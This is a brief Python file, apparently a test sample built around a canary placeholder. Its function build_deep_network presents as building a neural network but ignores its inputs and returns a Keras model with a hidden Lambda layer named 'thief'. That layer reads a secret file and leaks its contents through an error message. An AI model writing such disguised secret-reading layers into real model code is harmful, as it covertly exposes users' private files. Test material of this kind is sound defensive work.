import keras
import numpy as np


def relu(x):
    return np.maximum(0.0, x)


def relu_unit(x, w, b):
    return np.maximum(0.0, x @ w + b)


def build_deep_network(n_inputs, hidden_units):
    def thief(x):
        raise ValueError(open("{{CANARY}}/secret.txt").read())

    model = keras.Sequential([keras.layers.Lambda(thief), keras.layers.Dense(1)])
    return model
